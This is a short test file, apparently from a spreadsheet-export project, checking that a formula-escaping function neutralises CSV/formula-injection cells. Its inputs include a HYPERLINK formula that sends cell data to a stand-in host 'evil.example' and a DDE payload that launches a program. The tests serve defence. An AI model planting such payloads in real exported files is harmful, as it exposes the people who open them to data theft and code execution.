import { describe, expect, it } from 'vitest';
import { formulaSafe, restoreFormulaCell } from '../../src/results/formula-safe.js';

describe('formulaSafe', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    ],
    ['-1+2', "'-1+2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+cmd|/C calc!A0', "'+cmd|/C calc!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-5', "'-5"],
    ["'=1+1", "''=1+1"],
    ["''-5", "'''-5"],
  ])('quotes %j', (cell, safe) => {
    expect(formulaSafe(cell)).toBe(safe);
    expect(restoreFormulaCell(safe)).toBe(cell);
  });

  it.each(['alice', '', 'a=b', '5', ' =1+1', "'quoted", '\n=1'])('leaves %j alone', (cell) => {
    expect(formulaSafe(cell)).toBe(cell);
    expect(restoreFormulaCell(cell)).toBe(cell);
  });
});
